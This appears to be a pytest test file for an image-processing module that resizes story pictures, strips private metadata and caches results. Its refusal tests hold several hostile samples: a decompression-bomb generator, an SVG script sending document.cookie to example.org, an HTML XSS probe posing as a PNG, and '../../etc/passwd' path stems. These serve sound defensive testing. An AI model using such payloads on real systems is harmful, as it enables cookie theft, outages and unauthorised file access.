"""Pictures in stories (#12): what images.process makes of good files, what it refuses of hostile
ones, and what ImageCache keeps. Every input is made here by code; every output is read back."""
from __future__ import annotations

import hashlib
import io
import multiprocessing
import os
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import PIL
import pytest
from PIL import Image, ImageDraw, PngImagePlugin

from samenspel import images
from samenspel.imagecache import ImageCache
from samenspel.images import ImageRefused, Picture, Variant
from samenspel.messages import MESSAGES, message

REPO = Path(__file__).resolve().parent.parent
OWNER = "Jan Jansen van de Dorpsstraat"  # a private person's name that must not survive in any output


# --- Inputs, made by code --------------------------------------------------------------------------

def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def photo(width: int = 1600, height: int = 1067, seed: int = 0) -> Image.Image:
    """A photo-like picture: smooth gradients with sensor-like noise (no flat areas to compress away)."""
    gradient = Image.merge("RGB", [Image.linear_gradient("L").resize((width, height)),
                                   Image.radial_gradient("L").resize((width, height)),
                                   Image.linear_gradient("L").rotate(90).resize((width, height))])
    noise = Image.effect_noise((width, height), 24 + seed).convert("RGB")
    return Image.blend(gradient, noise, 0.15)


def halves(width: int, height: int, first: tuple[int, int, int], second: tuple[int, int, int]) -> Image.Image:
    """A picture whose left half is one colour and right half another: shows where orientation put it."""
    image = Image.new("RGB", (width, height), second)
    image.paste(first, (0, 0, width // 2, height))
    return image


def s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def swapped_rgb_profile() -> bytes:
    """An ICC v2 RGB profile whose red primary is sRGB's blue and blue is sRGB's red (not sRGB at all).

    Converting through it is visible: a stored red pixel must come out blue.
    """
    red, green, blue = (0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606, 0.7141)
    name = b"Swapped primaries (test)"
    desc = b"desc" + bytes(4) + struct.pack(">I", len(name) + 1) + name + b"\0" + bytes(4 + 4 + 2 + 1 + 67)
    curve = b"curv" + bytes(4) + struct.pack(">IH", 1, 0x0233) + bytes(2)  # gamma 2.2
    tags = [(b"desc", desc), (b"wtpt", b"XYZ " + bytes(4) + s15(0.9642) + s15(1.0) + s15(0.8249)),
            (b"rXYZ", b"XYZ " + bytes(4) + b"".join(map(s15, blue))),
            (b"gXYZ", b"XYZ " + bytes(4) + b"".join(map(s15, green))),
            (b"bXYZ", b"XYZ " + bytes(4) + b"".join(map(s15, red))),
            (b"rTRC", curve), (b"gTRC", curve), (b"bTRC", curve),
            (b"cprt", b"text" + bytes(4) + b"none\0\0\0\0")]
    offset = 128 + 4 + 12 * len(tags)
    table, body = b"", b""
    for signature, data in tags:
        data += bytes(-len(data) % 4)
        table += signature + struct.pack(">II", offset + len(body), len(data))
        body += data
    size = offset + len(body)
    header = (struct.pack(">I", size) + bytes(4) + bytes([2, 0x10, 0, 0]) + b"mntr" + b"RGB " + b"XYZ " + bytes(12)
              + b"acsp" + bytes(4 * 4 + 8 + 4) + s15(0.9642) + s15(1.0) + s15(0.8249) + bytes(4 + 16 + 28))
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + body


def tagged_jpeg() -> bytes:
    """A phone photo as it arrives: orientation 6, GPS, the camera owner, XMP, a comment and a non-sRGB profile.

    Stored 300 × 200 with red left and green right; upright (turned a quarter clockwise) red is on top.
    """
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: turn 90° clockwise to show
    exif[0x013B] = OWNER  # Artist
    exif[0x010F] = "Telefoonmerk"  # Make
    exif.get_ifd(0x8769)[0xA430] = OWNER  # CameraOwnerName
    exif.get_ifd(0x8769)[0x9003] = "2026:05:17 14:03:22"  # DateTimeOriginal
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (52.0, 22.0, 1.5), "E", (4.0, 53.0, 2.25)
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>' + OWNER.encode()
           + b"</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>")
    return encode(halves(300, 200, (200, 0, 0), (0, 200, 0)), "JPEG", quality=95, exif=exif.tobytes(),
                  icc_profile=swapped_rgb_profile(), xmp=xmp, comment=OWNER.encode())


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int, rows: bytes = b"") -> bytes:
    """A greyscale PNG with the given header size and ``rows`` as its (compressed) pixel data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(rows, 9))
            + png_chunk(b"IEND", b""))


def bomb() -> bytes:
    """A real decompression bomb: 10,000 × 10,000 black pixels (100 MB) in about 100 KB."""
    row = b"\0" * 10_001
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(10_000)) + compressor.flush()
    header = struct.pack(">IIBBBBB", 10_000, 10_000, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def transparent_png() -> bytes:
    image = Image.new("RGBA", (900, 600), (0, 0, 0, 0))
    ImageDraw.Draw(image).ellipse((100, 100, 800, 500), fill=(30, 120, 200, 255))
    image.putpixel((0, 0), (10, 20, 30, 128))
    return encode(image, "PNG")


def sixteen_bit_png() -> bytes:
    """A 16-bit grey PNG at about half brightness (32768 of 65535): must not come out white."""
    row = b"\0" + struct.pack(">H", 32768) * 600
    header = struct.pack(">IIBBBBB", 600, 400, 16, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(row * 400))
            + png_chunk(b"IEND", b""))


def animated(fmt: str) -> bytes:
    frames = [Image.new("RGB", (200, 100), colour) for colour in ("red", "blue", "green")]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=200, loop=0)


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
                   b'<script>fetch("https://example.org/?c=" + document.cookie)</script>'
                   b'<rect width="100" height="100" fill="red"/></svg>')
HTML_AS_PNG = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"


def metadata_left(data: bytes) -> list[str]:
    """Give every kind of metadata Pillow still finds in an output file, and any trace of the owner in its bytes."""
    found = []
    with Image.open(io.BytesIO(data)) as image:
        for key in ("exif", "icc_profile", "xmp", "XML:com.adobe.xmp", "comment", "dpi", "photoshop", "adobe"):
            if image.info.get(key):
                found.append(key)
        exif = image.getexif()
        if len(exif):
            found.append(f"exif tags {sorted(exif)}")
        for ifd in (0x8769, 0x8825):  # the Exif IFD (camera, owner, time) and the GPS IFD
            if exif.get_ifd(ifd):
                found.append(f"ifd {ifd:#x}")
    for trace in (OWNER.encode(), b"Exif\0", b"ICC_PROFILE", b"http://ns.adobe.com", b"Telefoonmerk", b"2026:05:17"):
        if trace in data:
            found.append(repr(trace))
    return found


def pixels(data: bytes, xy: tuple[int, int]) -> tuple[int, ...]:
    with Image.open(io.BytesIO(data)) as image:
        value = image.convert("RGBA").getpixel(xy)
    assert isinstance(value, tuple)
    return value


def all_variants(picture: Picture) -> tuple[Variant, ...]:
    return picture.modern + picture.fallback


# --- What a good picture becomes -----------------------------------------------------------------

def test_a_photo_becomes_webp_and_jpeg_at_each_width_below_its_own() -> None:
    picture = images.process(encode(photo(), "JPEG", quality=90), "dorpshuis")
    assert [(v.width, v.height, v.mime) for v in picture.modern] == [
        (480, 320, "image/webp"), (800, 534, "image/webp"), (1200, 800, "image/webp")]
    assert [(v.width, v.height, v.mime) for v in picture.fallback] == [
        (480, 320, "image/jpeg"), (800, 534, "image/jpeg"), (1200, 800, "image/jpeg")]
    assert (picture.width, picture.height) == (1200, 800)
    for variant in all_variants(picture):
        with Image.open(io.BytesIO(variant.data)) as image:  # the bytes are what the variant says they are
            assert (image.format, image.size) == ({"image/webp": "WEBP", "image/jpeg": "JPEG"}[variant.mime],
                                                  (variant.width, variant.height))


def test_names_carry_the_stem_a_hash_of_the_source_and_the_width() -> None:
    data = encode(photo(900, 600), "JPEG")
    picture = images.process(data, "ruimte-bieden")
    digest = images.source_hash(data)[:10]
    assert [v.name for v in all_variants(picture)] == [
        f"ruimte-bieden-{digest}-480.webp", f"ruimte-bieden-{digest}-800.webp", f"ruimte-bieden-{digest}-900.webp",
        f"ruimte-bieden-{digest}-480.jpg", f"ruimte-bieden-{digest}-800.jpg", f"ruimte-bieden-{digest}-900.jpg"]
    other = images.process(encode(photo(900, 600, seed=1), "JPEG"), "ruimte-bieden")
    assert {v.name for v in all_variants(other)}.isdisjoint(v.name for v in all_variants(picture))


def test_the_hash_covers_the_settings_as_well_as_the_bytes() -> None:
    assert images.source_hash(b"abc") != hashlib.sha256(b"abc").hexdigest()
    assert images.source_hash(b"abc") == images.source_hash(b"abc") != images.source_hash(b"abd")
    assert PIL.__version__ in images.SETTINGS  # a new Pillow encodes differently: new names, no stale cache


@pytest.mark.parametrize(("source", "widths"), [
    (5000, (480, 800, 1200)), (1200, (480, 800, 1200)), (1000, (480, 800, 1000)), (480, (480,)), (300, (300,)),
    (1, (1,))])
def test_widths_are_those_below_the_source_and_never_an_enlargement(source: int, widths: tuple[int, ...]) -> None:
    assert images.output_widths(source) == widths


def test_a_picture_smaller_than_every_width_is_kept_at_its_own_size() -> None:
    picture = images.process(encode(photo(64, 40), "PNG"), "klein")
    assert [(v.width, v.height) for v in all_variants(picture)] == [(64, 40), (64, 40)]


@pytest.mark.parametrize("stem", ["../../etc/passwd", "a/b", "..", "", "Één Logo!", "x" * 300, "\x1b[2J", "a\\b"])
def test_a_stem_never_makes_a_path_or_an_odd_name(stem: str) -> None:
    picture = images.process(encode(photo(50, 30), "JPEG"), stem)
    for variant in all_variants(picture):
        base = variant.name.rsplit("-", 2)[0]
        assert base and all(c.isascii() and (c.isalnum() or c == "-") for c in base), variant.name
        assert "/" not in variant.name and "\\" not in variant.name and ".." not in variant.name
        assert len(variant.name) < 100 and not variant.name.startswith("-")


def test_a_tagged_phone_photo_leaves_no_metadata_in_any_output() -> None:
    source = tagged_jpeg()
    assert metadata_left(source)  # the check does see what the source carries, GPS included
    with Image.open(io.BytesIO(source)) as image:
        assert image.getexif().get_ifd(0x8825)[2] == (52.0, 22.0, 1.5)
    picture = images.process(source, "foto")
    assert {v.name: metadata_left(v.data) for v in all_variants(picture)} == {v.name: [] for v in all_variants(picture)}


def tagged(fmt: str) -> bytes:
    """The same private details in a WebP or PNG: EXIF with GPS, XMP, a profile, and for PNG a text chunk."""
    with Image.open(io.BytesIO(tagged_jpeg())) as jpeg:
        exif, xmp, icc = jpeg.getexif(), jpeg.info["xmp"], jpeg.info["icc_profile"]
        image = jpeg.copy()
    options: dict[str, object] = {"exif": exif.tobytes(), "icc_profile": icc, "xmp": xmp}
    if fmt == "PNG":
        text = PngImagePlugin.PngInfo()
        text.add_text("Author", OWNER)
        text.add_itxt("XML:com.adobe.xmp", xmp.decode())
        options = {"exif": exif.tobytes(), "icc_profile": icc, "pnginfo": text}
    return encode(image, fmt, **options)


@pytest.mark.parametrize("fmt", ["WEBP", "PNG"])
def test_webp_and_png_sources_lose_their_metadata_too(fmt: str) -> None:
    source = tagged(fmt)
    assert metadata_left(source)
    with Image.open(io.BytesIO(source)) as image:
        assert image.getexif().get_ifd(0x8825)  # the GPS position is in the source
    picture = images.process(source, "foto")
    assert (picture.width, picture.height) == (200, 300)  # orientation 6 from the EXIF of these formats too
    assert {v.name: metadata_left(v.data) for v in all_variants(picture)} == {v.name: [] for v in all_variants(picture)}


def test_a_panorama_is_taken() -> None:
    picture = images.process(encode(photo(1600, 200), "JPEG"), "panorama")
    assert (picture.width, picture.height) == (1200, 150)


def test_the_exif_orientation_is_applied() -> None:
    picture = images.process(tagged_jpeg(), "foto")
    assert (picture.width, picture.height) == (200, 300)  # stored landscape, shown portrait
    for variant in all_variants(picture):
        top, bottom = pixels(variant.data, (100, 50)), pixels(variant.data, (100, 250))
        assert top[2] > 150 and top[0] < 60, (variant.name, top)  # the stored left (red) half is on top …
        assert bottom[1] > 150 and bottom[0] < 60, (variant.name, bottom)  # … and the green half below


def test_colours_are_converted_to_srgb_through_the_embedded_profile() -> None:
    # The profile says the stored "red" channel is sRGB's blue: the red half must come out blue, not red.
    picture = images.process(tagged_jpeg(), "foto")
    red, green, blue, _ = pixels(picture.modern[0].data, (100, 50))
    assert blue > 150 and red < 60 and green < 60


def test_a_cmyk_jpeg_becomes_rgb() -> None:
    cmyk = Image.new("CMYK", (600, 400), (255, 0, 0, 0))  # pure cyan ink
    picture = images.process(encode(cmyk, "JPEG", quality=95), "drukwerk")
    for variant in all_variants(picture):
        with Image.open(io.BytesIO(variant.data)) as image:
            assert image.mode in ("RGB", "L") or variant.mime == "image/webp"
        red, green, blue, _ = pixels(variant.data, (10, 10))
        assert red < 60 and green > 200 and blue > 200, (variant.name, red, green, blue)


def test_a_cmyk_jpeg_with_a_broken_profile_is_still_taken() -> None:
    cmyk = Image.new("CMYK", (300, 200), (0, 0, 0, 0))
    picture = images.process(encode(cmyk, "JPEG", icc_profile=b"not a profile at all" * 10), "drukwerk")
    assert pixels(picture.fallback[0].data, (5, 5))[:3] == (255, 255, 255)


def test_transparency_is_kept_and_the_fallback_is_png() -> None:
    picture = images.process(transparent_png(), "logo")
    assert {v.mime for v in picture.fallback} == {"image/png"}
    assert {v.mime for v in picture.modern} == {"image/webp"}
    for variant in all_variants(picture):
        with Image.open(io.BytesIO(variant.data)) as image:
            assert image.has_transparency_data, variant.name
        assert pixels(variant.data, (2, 2))[3] < 50  # a corner of the empty background: transparent
        centre = pixels(variant.data, (variant.width // 2, variant.height // 2))
        assert centre[3] == 255 and centre[2] > 150


def test_an_opaque_alpha_channel_makes_a_photo_not_a_png() -> None:
    rgba = photo(900, 600).convert("RGBA")  # alpha present but 255 everywhere: a photo saved as RGBA
    picture = images.process(encode(rgba, "WEBP", quality=90), "foto")
    assert {v.mime for v in picture.fallback} == {"image/jpeg"}


def test_a_png_drawing_stays_sharp_and_small() -> None:
    drawing = Image.new("RGB", (1400, 900), (240, 230, 200))
    ImageDraw.Draw(drawing).rectangle((200, 200, 1200, 700), fill=(200, 60, 40))
    picture = images.process(encode(drawing, "PNG"), "tekening")
    assert {v.mime for v in picture.fallback} == {"image/png"}
    for variant in picture.fallback:  # the PNG keeps the exact flat colour, the WebP comes close
        assert pixels(variant.data, (variant.width // 2, variant.height // 2))[:3] == (200, 60, 40)
    for variant in picture.modern:
        colour = pixels(variant.data, (variant.width // 2, variant.height // 2))[:3]
        assert max(abs(a - b) for a, b in zip(colour, (200, 60, 40), strict=True)) <= 6, colour
    assert all(len(v.data) < 20_000 for v in all_variants(picture)), [len(v.data) for v in all_variants(picture)]


def test_a_16_bit_png_is_scaled_not_clipped() -> None:
    picture = images.process(sixteen_bit_png(), "grijs")
    for variant in all_variants(picture):
        grey = pixels(variant.data, (10, 10))
        assert 110 < grey[0] < 145 and grey[0] == grey[1] == grey[2], (variant.name, grey)


def test_a_grey_jpeg_stays_a_picture_in_every_format() -> None:
    grey = photo(700, 500).convert("L")
    picture = images.process(encode(grey, "JPEG"), "grijs")
    assert [v.mime for v in picture.fallback] == ["image/jpeg", "image/jpeg"]
    assert all(metadata_left(v.data) == [] for v in all_variants(picture))


def test_processing_is_deterministic_within_a_process() -> None:
    sources = [tagged_jpeg(), transparent_png(), encode(photo(1300, 900), "JPEG")]
    first = [images.process(s, "x") for s in sources]
    second = [images.process(s, "x") for s in sources]
    assert first == second


def fingerprint(pictures: list[Picture]) -> str:
    return hashlib.sha256(b"".join(v.name.encode() + v.data for p in pictures for v in all_variants(p))).hexdigest()


def test_processing_is_deterministic_across_processes() -> None:
    code = ("import sys, hashlib; sys.path.insert(0, 'tests'); import test_images as t; from samenspel import images;"
            "print(t.fingerprint([images.process(s, 'x') for s in (t.tagged_jpeg(), t.transparent_png())]))")
    other = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, check=True,
                           env={**os.environ, "PYTHONHASHSEED": "12345"})
    assert other.stdout.strip() == fingerprint([images.process(s, "x") for s in (tagged_jpeg(), transparent_png())])


def test_processing_in_forked_workers_gives_the_same_bytes() -> None:
    # The build may hand pictures to forked worker processes (--jobs): no module state may differ there.
    sources = [tagged_jpeg(), transparent_png(), encode(photo(700, 500), "WEBP")]
    with multiprocessing.get_context("fork").Pool(2) as pool:
        forked = pool.starmap(images.process, [(s, "x") for s in sources])
    assert forked == [images.process(s, "x") for s in sources]


def test_a_camera_mpo_shows_its_first_picture() -> None:
    # Some cameras and phones write MPO (a JPEG with a second picture after it): taken, never refused as animated.
    first, second = halves(600, 400, (200, 0, 0), (200, 0, 0)), halves(600, 400, (0, 0, 200), (0, 0, 200))
    data = encode(first, "MPO", save_all=True, append_images=[second])
    assert images.sniff(data) == "image/jpeg"
    picture = images.process(data, "camera")
    assert pixels(picture.fallback[-1].data, (300, 200))[0] > 150  # red: the first picture


def test_the_800_pixel_webp_of_a_photo_is_well_under_150_kb() -> None:
    picture = images.process(encode(photo(3000, 2000), "JPEG", quality=92), "foto")
    sizes = {v.name: len(v.data) for v in all_variants(picture)}
    print(sizes)
    assert len(picture.modern[1].data) < 150_000 and picture.modern[1].width == 800
    assert len(picture.fallback[1].data) < 150_000


# --- The example picture ------------------------------------------------------------------------

EXAMPLE = REPO / "content" / "stories" / "ruimte-bieden-aan-een-eigen-logo.png"


def test_the_example_picture_is_what_its_script_draws(tmp_path: Path) -> None:
    out = tmp_path / "picture.png"
    subprocess.run([sys.executable, str(REPO / "scripts" / "draw_example_picture.py"), "--out", str(out)],
                   check=True, capture_output=True)
    assert out.read_bytes() == EXAMPLE.read_bytes()


def test_the_example_picture_is_large_enough_small_and_clean() -> None:
    data = EXAMPLE.read_bytes()
    with Image.open(io.BytesIO(data)) as image:
        assert image.format == "PNG" and image.width >= 1200
    assert len(data) <= 150_000 and metadata_left(data) == []
    assert (REPO / "content" / "stories" / "ruimte-bieden-aan-een-eigen-logo.md").is_file()  # its story


def test_the_example_picture_becomes_small_files_at_every_width() -> None:
    picture = images.process(EXAMPLE.read_bytes(), "ruimte-bieden-aan-een-eigen-logo")
    assert [v.width for v in picture.modern] == [480, 800, 1200]
    assert {v.mime for v in picture.fallback} == {"image/png"}  # a drawing: sharp edges, no JPEG blur
    sizes = {v.name: len(v.data) for v in all_variants(picture)}
    print(sizes)
    assert all(size <= 150_000 for size in sizes.values()), sizes


# --- What is refused, quickly and by name --------------------------------------------------------

def fifty_megabytes() -> bytes:
    return b"\xff\xd8\xff\xe0" + bytes(50 * 1024 * 1024)


HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # name: (the bytes, the message key, the value shown)
    "decompression bomb": (bomb, "image_too_many_pixels", "100000000"),
    "header claiming 100,000 × 100,000": (lambda: png_declaring(100_000, 100_000), "image_too_many_pixels",
                                          "10000000000"),
    "just over the pixel limit": (lambda: png_declaring(8000, 5001), "image_too_many_pixels", "40008000"),
    "truncated JPEG": (lambda: encode(photo(800, 600), "JPEG")[:20_000], "image_broken", "image/jpeg"),
    "JPEG cut after its header": (lambda: encode(photo(800, 600), "JPEG")[:700], "image_broken", "image/jpeg"),
    "PNG with a bad CRC": (lambda: transparent_png()[:40] + b"\0" + transparent_png()[41:], "image_broken",
                           "image/png"),
    "truncated PNG": (lambda: transparent_png()[:-300], "image_broken", "image/png"),
    "PNG that is really HTML": (lambda: HTML_AS_PNG, "image_not_an_image", "text/html"),
    "SVG with a script": (lambda: SVG_WITH_SCRIPT, "image_svg_refused", "image/svg+xml"),
    "text": (lambda: b"Dit is geen foto, maar een verhaal.\n", "image_not_an_image", "text/plain"),
    "PDF": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "image_not_an_image", "application/pdf"),
    "random bytes": (lambda: bytes(range(256)) * 4, "image_not_an_image", "application/octet-stream"),
    "empty file": (lambda: b"", "image_empty", "0"),
    "50 MB file": (fifty_megabytes, "image_too_large", str(50 * 1024 * 1024 + 4)),
    "GIF": (lambda: encode(Image.new("P", (10, 10)), "GIF"), "image_format", "image/gif"),
    "TIFF": (lambda: encode(Image.new("RGB", (10, 10)), "TIFF"), "image_format", "image/tiff"),
    "animated GIF": (lambda: animated("GIF"), "image_format", "image/gif"),
    "animated WebP": (lambda: animated("WEBP"), "image_animated", "3"),
    "animated PNG": (lambda: animated("PNG"), "image_animated", "3"),
    "truncated WebP": (lambda: encode(photo(800, 600), "WEBP")[:5000], "image_broken", "image/webp"),
    "a one-pixel strip": (lambda: png_declaring(1, 40_000_000), "image_shape", "1 × 40000000"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_or_broken_file_is_refused_fast_with_a_message(name: str) -> None:
    make, key, value = HOSTILE[name]
    data = make()
    start = time.perf_counter()
    with pytest.raises(ImageRefused) as refused:
        images.process(data, "x")
    seconds = time.perf_counter() - start
    print(f"{name}: refused as {refused.value.key} in {seconds * 1000:.1f} ms")
    assert (refused.value.key, refused.value.value) == (key, value)
    assert seconds < 1.0  # generous: the figures printed above are what to watch
    for lang in ("nl", "en"):  # the message and its hint read as sentences, with the value in them
        text = message(refused.value.key, lang, {"value": refused.value.value})
        assert value in text and "{" not in text
        assert message(refused.value.hint, lang, {})


def test_the_limits_in_the_messages_are_the_limits_in_the_code() -> None:
    assert f"{images.MAX_BYTES // 2**20} MB" in MESSAGES["image_too_large"]["en"]
    assert f"{images.MAX_PIXELS // 1_000_000} million" in MESSAGES["image_too_many_pixels"]["en"]


def test_a_large_file_is_refused_before_anything_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
    class Untouchable(bytes):  # any slice or search of the bytes would fail
        def __getitem__(self, key: object) -> bytes:
            raise AssertionError("the bytes were read")

    def no_hashing(data: bytes) -> str:
        raise AssertionError("the bytes were hashed")

    monkeypatch.setattr(images, "source_hash", no_hashing)
    data = Untouchable(fifty_megabytes())
    with pytest.raises(ImageRefused, match="image_too_large"):
        images.process(data, "x")


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_no_refused_file_is_hashed(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    # Hashing 50 MB took longer than refusing it: the checks come first.
    monkeypatch.setattr(images, "source_hash", lambda data: pytest.fail("hashed before being refused"))
    with pytest.raises(ImageRefused):
        images.process(HOSTILE[name][0](), "x")


def test_a_file_name_is_never_trusted_only_the_content() -> None:
    # The same JPEG bytes are taken whatever they were called; the API has no file name to trust.
    data = encode(photo(600, 400), "JPEG")
    assert images.sniff(data) == "image/jpeg" and images.sniff(HTML_AS_PNG) == "text/html"
    assert images.process(data, "foto.png").fallback[0].mime == "image/jpeg"


def test_a_jpeg_with_an_unreadable_exif_block_is_taken_upright() -> None:
    data = encode(photo(600, 400), "JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\xff\xff")
    picture = images.process(data, "foto")
    assert (picture.width, picture.height) == (600, 400)
    assert all(metadata_left(v.data) == [] for v in all_variants(picture))


# --- The cache -----------------------------------------------------------------------------------

def test_a_cache_hit_is_byte_identical_to_a_miss(tmp_path: Path) -> None:
    data = tagged_jpeg()
    made = ImageCache(tmp_path).get(data, "foto")
    again = ImageCache(tmp_path)  # a later build: a new process, the same folder
    assert again.get(data, "foto") == made == images.process(data, "foto")
    assert (again.hits, again.made) == (1, 0)


def test_the_cache_processes_an_unchanged_picture_once(tmp_path: Path) -> None:
    cache = ImageCache(tmp_path)
    data = encode(photo(700, 500), "JPEG")
    first = cache.get(data, "a")
    second = cache.get(data, "b")  # the same picture under another story's name
    assert cache.made == 1
    assert [v.data for v in all_variants(first)] == [v.data for v in all_variants(second)]
    assert [v.name for v in second.modern] == [v.name.replace("a-", "b-", 1) for v in first.modern]


def test_without_a_folder_the_cache_remembers_in_memory() -> None:
    cache = ImageCache(None)
    data = encode(photo(300, 200), "JPEG")
    assert cache.get(data, "x") == cache.get(data, "x") and cache.made == 1


@pytest.mark.parametrize("damage", ["truncated", "flipped byte", "empty", "other version", "garbage"])
def test_a_damaged_entry_is_a_miss_and_is_made_again(tmp_path: Path, damage: str) -> None:
    data = transparent_png()
    good = ImageCache(tmp_path).get(data, "logo")
    [entry] = [p for p in tmp_path.rglob("*") if p.is_file()]
    raw = entry.read_bytes()
    entry.write_bytes({"truncated": raw[: len(raw) // 2], "flipped byte": raw[:-10] + bytes([raw[-10] ^ 1]) + raw[-9:],
                       "empty": b"", "other version": raw.replace(b"cache 1", b"cache 9", 1),
                       "garbage": os.urandom(200)}[damage])
    cache = ImageCache(tmp_path)
    assert cache.get(data, "logo") == good and (cache.hits, cache.made) == (0, 1)
    assert entry.read_bytes() == raw  # written whole again


def test_refusals_are_remembered_in_memory_and_never_written(tmp_path: Path) -> None:
    cache = ImageCache(tmp_path)
    for _ in range(2):
        with pytest.raises(ImageRefused) as refused:
            cache.get(HTML_AS_PNG, "x")
        assert (refused.value.key, refused.value.value) == ("image_not_an_image", "text/html")
    assert cache.made == 1
    assert list(tmp_path.rglob("*")) == []


def test_writing_leaves_no_temporary_files(tmp_path: Path) -> None:
    cache = ImageCache(tmp_path)
    for seed in range(3):
        cache.get(encode(photo(200, 100, seed=seed), "JPEG"), "x")
    files = sorted(p.name for p in tmp_path.rglob("*") if p.is_file())
    assert len(files) == 3 and not any(name.startswith(".tmp") for name in files)


def test_prune_keeps_only_what_the_last_build_used(tmp_path: Path) -> None:
    old, kept = encode(photo(200, 100, seed=1), "JPEG"), encode(photo(200, 100, seed=2), "JPEG")
    ImageCache(tmp_path).get(old, "oud")
    cache = ImageCache(tmp_path)
    cache.get(kept, "nieuw")
    (tmp_path / "ab").mkdir()
    (tmp_path / "ab" / ".tmp-left-by-a-crash").write_bytes(b"half")
    cache.prune(cache.used)
    assert sorted(p.name for p in tmp_path.rglob("*")) == sorted(
        [images.source_hash(kept)[:2], images.source_hash(kept)])
    assert ImageCache(tmp_path).get(kept, "nieuw") == cache.get(kept, "nieuw")


def test_a_folder_that_cannot_be_written_only_costs_speed(tmp_path: Path) -> None:
    blocked = tmp_path / "file-not-folder"
    blocked.write_text("x")
    cache = ImageCache(blocked)
    data = encode(photo(300, 200), "JPEG")
    assert cache.get(data, "x") == images.process(data, "x")
